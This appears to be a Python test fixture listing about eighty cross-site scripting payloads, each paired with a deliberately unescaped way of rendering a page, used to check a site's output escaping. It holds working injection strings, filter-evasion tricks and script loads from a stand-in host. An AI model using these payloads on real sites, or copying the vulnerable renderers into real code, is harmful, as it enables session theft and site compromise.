"""Texts that run a script, or call another host, where a page shows them without escaping.

Each calls `ran(…)`, which the browser of the tests reports, or asks the host CANARY, and marks its elements with the
attribute `zq`, which no page has. `careless` names the way of writing a page, of those below, that it gets through:
tests/browser/test_xss.py sees each get through there before it believes that the site stops it.
"""

from __future__ import annotations

import html
import json
import unicodedata
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from urllib.parse import unquote

import jinja2

CANARY = "canary.invalid"


@dataclass(frozen=True, slots=True)
class Payload:
    text: str
    careless: str = "text"


def _unescaped_in(attribute: str) -> Callable[[str], str]:
    return lambda text: attribute.format(text)


def _in_json(text: str) -> str:
    return f'<script type="application/ld+json">{json.dumps({"name": text}, ensure_ascii=False)}</script>'


def _as_template(text: str) -> str:
    shown = jinja2.Environment(autoescape=True).from_string(text).render()
    return f"<p>{shown}</p>"


def _marked(text: str) -> str:
    """Matches marked first, and what is between the marks escaped as a whole tag only."""
    return f"<p>{text.replace('flood', '<mark>flood</mark>')}</p>"


def _from_utf7(text: str) -> str:
    return f"<p>{text.encode().decode('utf-7', 'replace')}</p>"


# Ways of writing a page that let text be markup.
CARELESS: Mapping[str, Callable[[str], str]] = {
    "text": _unescaped_in("<p>{}</p>"),
    "double quotes": _unescaped_in('<input value="{}">'),
    "single quotes": _unescaped_in("<input value='{}'>"),
    "no quotes": _unescaped_in("<input value={}>"),
    "link": lambda text: f'<a href="{html.escape(text)}">here</a>',
    "frame": lambda text: f'<iframe src="{html.escape(text)}"></iframe>',
    "title": _unescaped_in("<title>{}</title>"),
    "text area": _unescaped_in("<textarea>{}</textarea>"),
    "comment": _unescaped_in("<!-- {} -->"),
    "style": _unescaped_in("<style>/* {} */</style>"),
    "noscript": _unescaped_in("<noscript>{}</noscript>"),
    "json": _in_json,
    "script": _unescaped_in("<script>var name = '{}';</script>"),
    "script, quotes": lambda text: "<script>var name = '" + text.replace("'", "\\'") + "';</script>",
    "xml": _unescaped_in("<svg><desc><![CDATA[{}]]></desc></svg>"),
    "template": _as_template,
    "marks": _marked,
    "entities": lambda text: f"<p>{html.unescape(text)}</p>",
    "percent": lambda text: f"<p>{unquote(text)}</p>",
    "percent twice": lambda text: f"<p>{unquote(unquote(text))}</p>",
    "compatible": lambda text: f"<p>{unicodedata.normalize('NFKC', text)}</p>",
    "seven bits": _from_utf7,
    "backslashes": lambda text: f"<p>{text.encode('ascii', 'ignore').decode('unicode_escape')}</p>",
    "cleaned once": lambda text: f"<p>{text.replace('<script>', '').replace('</script>', '')}</p>",
    "without NUL": lambda text: f"<p>{text.replace(chr(0), '')}</p>",
}

_MUTATED = (
    '<math zq><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran({n})&gt;"></table>'
)
# `{n}` is the payload's number.
_TEXTS: tuple[tuple[str, str], ...] = (
    # elements that run
    ("<script zq>ran({n})</script>", "text"),
    ("<ScRiPt zq src=//canary.invalid/{n}.js></sCrIpT >", "text"),
    ("<script zq>ran`{n}`</script\t>", "text"),
    ("<svg zq><script>ran({n})</script></svg>", "text"),
    ("<svg zq><script>ran&lpar;{n}&rpar;</script></svg>", "text"),
    ("<iframe zq srcdoc=\"<script>parent.ran({n})</script>\"></iframe>", "text"),
    ("<iframe zq src=javascript:parent.ran({n})></iframe>", "text"),
    ("<object zq data=//canary.invalid/{n}></object>", "text"),
    ("<embed zq src=//canary.invalid/{n}>", "text"),
    ("<div zq><template shadowrootmode=open><script>ran({n})</script></template></div>", "text"),
    # handlers
    ("<img zq src=x onerror=ran({n})>", "text"),
    ("<img/zq/src=x/onerror=ran({n})>", "text"),
    ("<img\tzq\tsrc=x\tonerror\t=\t'ran({n})'>", "text"),
    ("<IMG zq SRC=x OnErRoR=&#114;an({n})>", "text"),
    ("<svg zq onload=ran({n})>", "text"),
    ("<svg zq><animate onbegin=ran({n}) attributeName=x dur=1s>", "text"),
    ("<details zq open ontoggle=ran({n})>", "text"),
    ("<input zq autofocus onfocus=ran({n})>", "text"),
    ("<xss zq id=x tabindex=1 autofocus onfocus=ran({n})>", "text"),
    ("<video zq><source onerror=ran({n})></video>", "text"),
    ("<audio zq src=x onerror=ran({n})>", "text"),
    ("<body zq onpageshow=ran({n})>", "text"),
    ("<style zq onload=ran({n})></style>", "text"),
    ("<img zq src=x onerror=alert({n})//", "marks"),
    # addresses
    ("<a zq href=javascript:ran({n})>here</a>", "text"),
    ('<a zq href="java&#115;cript&colon;ran({n})">here</a>', "text"),
    ("javascript:ran({n})", "link"),
    ("JaVaScRiPt:ran({n})//http://letters.example", "link"),
    ("java\tscript:ran({n})", "link"),
    (" \x01javascript:ran({n})", "link"),
    ("data:text/html,<script>parent.ran({n})</script>", "frame"),
    ("//canary.invalid/{n}", "frame"),
    ("<svg zq><a xlink:href=javascript:ran({n})><text y=20>here</text></a></svg>", "text"),
    ("<math zq href=javascript:ran({n})>here</math>", "text"),
    ("<form zq action=javascript:ran({n})><button>here</button></form>", "text"),
    ("<button zq form=question formaction=javascript:ran({n})>here</button>", "text"),
    ("<base zq href=//canary.invalid/>", "text"),
    ("<meta zq http-equiv=refresh content=\"0;url=//canary.invalid/{n}\">", "text"),
    ("<link zq rel=stylesheet href=//canary.invalid/{n}.css>", "text"),
    ("<img zq srcset=//canary.invalid/{n}>", "text"),
    # styles
    ("<style zq>@import '//canary.invalid/{n}.css';</style>", "text"),
    ("<p zq style=background:url(//canary.invalid/{n})>x</p>", "text"),
    # out of where the text stands
    ('" onfocus="ran({n})" autofocus zq="', "double quotes"),
    ("' onfocus='ran({n})' autofocus zq='", "single quotes"),
    ("x onfocus=ran({n}) autofocus zq", "no quotes"),
    ("`onfocus=ran({n}) autofocus zq=`", "no quotes"),
    ('"><svg zq onload=ran({n})>', "double quotes"),
    ("'><svg zq onload=ran({n})>", "single quotes"),
    ("\"'--></style></title></textarea></script><svg zq onload=ran({n})>", "double quotes"),
    ("</title><script zq>ran({n})</script>", "title"),
    ("</textarea><script zq>ran({n})</script>", "text area"),
    ("--><script zq>ran({n})</script><!--", "comment"),
    ("*/</style><script zq>ran({n})</script>", "style"),
    ("</noscript><script zq>ran({n})</script>", "noscript"),
    ("</script><script zq>ran({n})</script>", "json"),
    ("';ran({n});//", "script"),
    ("\\';ran({n});//", "script, quotes"),
    ("]]><img zq src=x onerror=ran({n})>", "xml"),
    # what a parser mends
    (_MUTATED, "text"),
    ("<<script zq>ran({n})//<</script>", "text"),
    ("<select zq><noembed></select><script>ran({n})</script>", "text"),
    ("<!--<img zq src=\"--><img zq src=x onerror=ran({n})//\">", "text"),
    ("<scr<script>ipt zq>ran({n})</scr</script>ipt>", "cleaned once"),
    ("<img zq src=x onerror=ran({n}) alt=\"", "double quotes"),
    # text that is decoded once too often
    ("&lt;script zq&gt;ran({n})&lt;/script&gt;", "entities"),
    ("&#60;img zq src=x onerror=ran({n})&#62;", "entities"),
    ("&#x3c;svg zq onload=ran({n})&#x3e;", "entities"),
    ("%3Cscript%20zq%3Eran({n})%3C/script%3E", "percent"),
    ("%253Cimg zq src=x onerror=ran({n})%253E", "percent twice"),
    ("\\u003cscript zq\\u003eran({n})\\u003c/script\\u003e", "backslashes"),
    ("\\x3cimg zq src=x onerror=ran({n})\\x3e", "backslashes"),
    ("＜script zq＞ran({n})＜/script＞", "compatible"),
    ("﹤img zq src=x onerror=ran({n})﹥", "compatible"),
    ("+ADw-script zq+AD4-ran({n})+ADw-/script+AD4-", "seven bits"),
    ("<\0img zq src=x onerror=ran({n})>", "without NUL"),
    ("\u202e<img zq src=x onerror=ran({n})>\u202c", "text"),
    # templates
    ("zq{{7*7}} ran({n})", "template"),
    ("{{'<script zq>ran({n})</script>'|safe}}", "template"),
    ("{% set a = '<img zq src=x onerror=ran({n})>'|safe %}{{a}}", "template"),
    # between the marks of a search for “flood”
    ("</mark><img zq src=x onerror=ran({n}) flood>flood<mark>", "marks"),
    ("flood<img zq alt=\"flood\" src=flood onerror=ran({n}) title=flood>", "text"),
)  # fmt: skip

PAYLOADS: tuple[Payload, ...] = tuple(
    Payload(text.replace("{n}", str(number)), careless) for number, (text, careless) in enumerate(_TEXTS)
)
